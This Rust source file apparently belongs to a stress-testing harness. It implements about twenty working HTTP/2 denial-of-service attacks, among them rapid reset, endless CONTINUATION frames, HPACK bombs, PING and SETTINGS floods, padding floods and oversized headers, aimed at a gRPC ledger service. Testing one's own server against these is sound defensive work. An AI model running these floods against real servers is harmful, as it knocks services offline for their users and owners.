//! Attacks by frames of HTTP/2 that cost the server more than they cost to send.

use std::{collections::BTreeMap, io, time::Duration};

use tokio::time::Instant;

use super::{
    Attack, Session,
    wire::{
        ACK, CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PAYLOAD_MAX, PING, PREFACE,
        PRIORITY, RST_STREAM, SETTINGS, WINDOW_MAX, WINDOW_UPDATE, add_frame, add_header, announced, connect, frame,
        get, head, message, setting, window_update, write_all,
    },
};

const STATUS: &str = "/timebank.v1.LedgerService/GetStatus";
const SUBMIT_LIST: &str = "/timebank.v1.LedgerService/SubmitList";
const SUBMIT_STREAM: &str = "/timebank.v1.LedgerService/SubmitStream";

/// Those who keep both cores busy with what they send.
const BUSY: usize = 4;
/// Those who hold something.
const SOME: usize = 20;
/// What a server that is careful allows at a time, so what others take from it.
const STREAMS: usize = 100;
/// Frames that are sent at once.
const BURST: usize = 1_024;
/// The window that a stream has before the server says otherwise: so many bytes may come one by one.
const WINDOW: usize = 65_535;
/// Just under the 16 KiB of headers that servers take by default.
const HEADERS_BYTES: usize = 15_000;
/// How often a connection that holds something looks whether it still has it.
const LOOK: Duration = Duration::from_millis(100);

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("65,535 DATA frames of one byte on each of 100 streams", BUSY, single_bytes),
        Attack::new("empty DATA frames", BUSY, |session| burst(session, true, |stream, _| frame(DATA, 0, stream, &[]))),
        Attack::new("DATA frames that are all padding", BUSY, padding),
        Attack::new("CONTINUATION without end", BUSY, |session| continuation(session, head_filler())),
        Attack::new("empty CONTINUATION without end", BUSY, |session| continuation(session, Vec::new())),
        Attack::new("HPACK bombs", BUSY, bombs),
        Attack::new("15 KB of headers on each of 100 streams, held open", SOME, large_heads),
        Attack::new("PING without end, answers read", BUSY, |session| {
            burst(session, false, |_, number| frame(PING, 0, 0, &u64::from(number).to_be_bytes()))
        }),
        Attack::new("PING without end, answers unread", BUSY, |session| {
            deaf(session, |number| frame(PING, 0, 0, &u64::from(number).to_be_bytes()))
        }),
        Attack::new("SETTINGS without end, answers read", BUSY, |session| {
            burst(session, false, |_, number| frame(SETTINGS, 0, 0, &setting(4, number % 65_536)))
        }),
        Attack::new("SETTINGS without end, answers unread", BUSY, |session| {
            deaf(session, |number| frame(SETTINGS, 0, 0, &setting(4, number % 65_536)))
        }),
        Attack::new("WINDOW_UPDATE without end", BUSY, |session| {
            burst(session, true, |stream, number| window_update(if number % 2 == 0 { 0 } else { stream }, 1))
        }),
        Attack::new("PRIORITY without end", BUSY, |session| {
            burst(session, false, |_, number| frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 16]))
        }),
        Attack::new("frames of unknown kinds without end", BUSY, |session| {
            burst(session, false, |_, number| frame(0x20 + (number % 200) as u8, 0, 0, &[0; 100]))
        }),
        Attack::new("rapid reset", BUSY, rapid_reset),
        Attack::new("subscribe and reset", BUSY, subscribe_and_reset),
        Attack::new("more streams than allowed", BUSY, too_many_streams),
        Attack::new("trailers, and data after them", BUSY, data_after_trailers),
        Attack::new("trailers of 15 KB in place of a message", BUSY, large_trailers),
        Attack::new("frames in no order, at random", BUSY, random_frames),
        Attack::new("right requests with bits flipped", BUSY, flipped),
        Attack::new("bundles of entries by HTTP/2, unread", SOME, bundles_unread),
    ]
}

/// A connection whose answers are all read.
async fn open(session: &Session) -> io::Result<Connection> {
    Connection::open(session.address, WINDOW_MAX, &session.tally).await
}

/// One kind of frame again and again, on a stream that is open where it wants one.
async fn burst(session: Session, on_stream: bool, one: impl Fn(u32, u32) -> Vec<u8>) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let (mut stream, mut number) = (0, 0);
    while !session.is_over() {
        if on_stream && connection.open_streams() == 0 {
            stream = connection.request(&head(SUBMIT_STREAM), 0).await?;
        }
        let mut frames = Vec::new();
        for _ in 0..BURST {
            frames.extend(one(stream, number));
            number += 1;
        }
        connection.write(&frames).await?;
    }
    Ok(())
}

/// The same, by one who reads nothing of what comes back.
async fn deaf(session: Session, one: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let mut number = 0;
    while !session.is_over() {
        let mut frames = Vec::new();
        for _ in 0..BURST {
            frames.extend(one(number));
            number += 1;
        }
        connection.write_deaf(&frames).await?;
    }
    Ok(())
}

/// A window's worth of frames of one byte: each costs the server many times what it holds.
async fn single_bytes(session: Session) -> io::Result<()> {
    let mut connection = open(&session).await?.in_frames_of(1);
    let mut beginning = announced(4 << 20, &[]);
    beginning.resize(WINDOW, 0);
    let mut sent: BTreeMap<u32, usize> = BTreeMap::new();
    while !session.is_over() {
        for _ in connection.open_streams()..STREAMS.min(connection.allowed()) {
            sent.insert(connection.request(&head(SUBMIT_LIST), 0).await?, 0);
        }
        sent.retain(|stream, _| connection.credit(*stream).is_some());
        let mut any = false;
        for (stream, at) in &mut sent {
            let poured = connection.pour(*stream, &beginning[*at..], false).await?.unwrap_or(0);
            *at += poured;
            any |= poured > 0;
        }
        if !any {
            connection.read_until(Instant::now() + LOOK).await?;
        }
    }
    Ok(())
}

async fn padding(session: Session) -> io::Result<()> {
    /// PADDED, and 255 bytes of it: as much as fits the one byte that says how long it is.
    const PADDED: u8 = 8;
    let mut connection = open(&session).await?;
    let padded = [&[255][..], &[0; 255]].concat();
    while !session.is_over() {
        let stream = connection.request(&head(SUBMIT_STREAM), 0).await?;
        while connection.credit(stream).is_some_and(|credit| credit >= padded.len()) {
            connection.spend(stream, padded.len());
            connection.write(&frame(DATA, PADDED, stream, &padded)).await?;
        }
        connection.write(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())).await?;
        connection.forget(stream);
        connection.read_until(Instant::now() + LOOK).await?;
    }
    Ok(())
}

fn head_filler() -> Vec<u8> {
    let mut block = Vec::new();
    add_header(&mut block, 0, "x-filler", &[b'x'; 1_000]);
    block
}

async fn continuation(session: Session, block: Vec<u8>) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let stream = connection.next_stream();
    connection.write(&frame(HEADERS, 0, stream, &head(STATUS))).await?;
    let frames = frame(CONTINUATION, 0, stream, &block).repeat(64);
    while !session.is_over() {
        connection.write(&frames).await?;
    }
    Ok(())
}

/// A header of 4,000 bytes that goes into the table once and is named 16,000 times: 64 MB for 20 KB.
async fn bombs(session: Session) -> io::Result<()> {
    /// The first place of the table that is the connection's own, as an indexed field (RFC 7541, section 6.1).
    const NEWEST: u8 = 0x80 | 62;
    let mut connection = open(&session).await?;
    while !session.is_over() {
        let stream = connection.next_stream();
        let mut block = head(STATUS);
        add_header(&mut block, 0x40, "x-bomb", &[b'b'; 4_000]);
        block.resize(PAYLOAD_MAX, NEWEST);
        let mut frames = frame(HEADERS, END_STREAM, stream, &block);
        add_frame(&mut frames, CONTINUATION, END_HEADERS, stream, &[NEWEST; 4_000]);
        connection.write(&frames).await?;
        connection.read_until(Instant::now() + LOOK).await?;
    }
    Ok(())
}

fn large_head(path: &str) -> Vec<u8> {
    let mut block = head(path);
    while block.len() < HEADERS_BYTES {
        add_header(&mut block, 0, "x-filler", &[b'x'; 1_000]);
    }
    block
}

async fn large_heads(session: Session) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let block = large_head(SUBMIT_STREAM);
    while !session.is_over() {
        while connection.open_streams() < STREAMS.min(connection.allowed()) {
            connection.request(&block, 0).await?;
        }
        connection.read_until(Instant::now() + LOOK).await?;
    }
    Ok(())
}

async fn rapid_reset(session: Session) -> io::Result<()> {
    reset(session, STATUS, &message(&[])).await
}

async fn subscribe_and_reset(session: Session) -> io::Result<()> {
    reset(session, "/timebank.v1.LedgerService/Subscribe", &message(&[])).await
}

async fn reset(session: Session, path: &str, body: &[u8]) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let head = head(path);
    while !session.is_over() {
        let mut frames = Vec::new();
        for _ in 0..STREAMS {
            let stream = connection.next_stream();
            add_frame(&mut frames, HEADERS, END_HEADERS, stream, &head);
            add_frame(&mut frames, DATA, END_STREAM, stream, body);
            add_frame(&mut frames, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            connection.forget(stream);
        }
        connection.write(&frames).await?;
    }
    Ok(())
}

async fn too_many_streams(session: Session) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let head = head(SUBMIT_STREAM);
    while !session.is_over() {
        let mut frames = Vec::new();
        for _ in 0..BURST {
            let stream = connection.next_stream();
            add_frame(&mut frames, HEADERS, END_HEADERS, stream, &head);
        }
        connection.write(&frames).await?;
    }
    Ok(())
}

async fn data_after_trailers(session: Session) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let mut trailers = Vec::new();
    add_header(&mut trailers, 0, "x-trailer", b"so");
    while !session.is_over() {
        let stream = connection.request(&head(SUBMIT_LIST), 0).await?;
        let mut frames = frame(DATA, 0, stream, &announced(100_000, &[0; 10]));
        add_frame(&mut frames, HEADERS, END_HEADERS | END_STREAM, stream, &trailers);
        add_frame(&mut frames, DATA, 0, stream, &[0; 1_000]);
        connection.write(&frames).await?;
        connection.read_until(Instant::now() + LOOK).await?;
    }
    Ok(())
}

async fn large_trailers(session: Session) -> io::Result<()> {
    let mut connection = open(&session).await?;
    let mut trailers = Vec::new();
    while trailers.len() < HEADERS_BYTES {
        add_header(&mut trailers, 0, "x-trailer", &[b'x'; 1_000]);
    }
    while !session.is_over() {
        while connection.open_streams() < STREAMS.min(connection.allowed()) {
            let stream = connection.request(&head(SUBMIT_LIST), 0).await?;
            connection.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &trailers)).await?;
        }
        connection.read_until(session.until).await?;
    }
    Ok(())
}

async fn random_frames(mut session: Session) -> io::Result<()> {
    let kinds = [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, 5, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION];
    let mut connection = open(&session).await?;
    while !session.is_over() {
        let rng = &mut session.rng;
        let mut payload = match rng.u8(..3) {
            0 => head(STATUS),
            1 => message(&[]),
            _ => vec![0; rng.usize(..64)],
        };
        if rng.bool() && !payload.is_empty() {
            let at = rng.usize(..payload.len());
            payload[at] = rng.u8(..);
        }
        let flags = [0, ACK, END_HEADERS, END_HEADERS | END_STREAM, rng.u8(..)][rng.usize(..5)];
        let stream = [0, connection.next_stream(), 1, rng.u32(..64)][rng.usize(..4)];
        connection.write(&frame(kinds[rng.usize(..kinds.len())], flags, stream, &payload)).await?;
        connection.read_until(Instant::now()).await?;
    }
    Ok(())
}

/// A whole right call, but for one to four bits or an end that is missing; then the connection is closed.
async fn flipped(mut session: Session) -> io::Result<()> {
    let mut right = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    add_frame(&mut right, HEADERS, END_HEADERS, 1, &head(STATUS));
    add_frame(&mut right, DATA, END_STREAM, 1, &message(&[]));
    while !session.is_over() {
        let socket = connect(session.address, &session.tally).await?;
        let mut bytes = right.clone();
        for _ in 0..session.rng.u8(1..=4) {
            let at = session.rng.usize(PREFACE.len()..bytes.len());
            bytes[at] ^= 1 << session.rng.u8(..8);
        }
        bytes.truncate(session.rng.usize(PREFACE.len()..=bytes.len()));
        write_all(&socket, &bytes, &session.tally).await?;
        session.rest(Duration::from_millis(1)).await;
    }
    Ok(())
}

async fn bundles_unread(session: Session) -> io::Result<()> {
    let mut connection = Connection::open(session.address, 0, &session.tally).await?;
    while !session.is_over() {
        while connection.open_streams() < STREAMS.min(connection.allowed()) {
            connection.request(&get("/tile/entries/000.p/20"), END_STREAM).await?;
        }
        connection.read_until(Instant::now() + LOOK).await?;
    }
    Ok(())
}
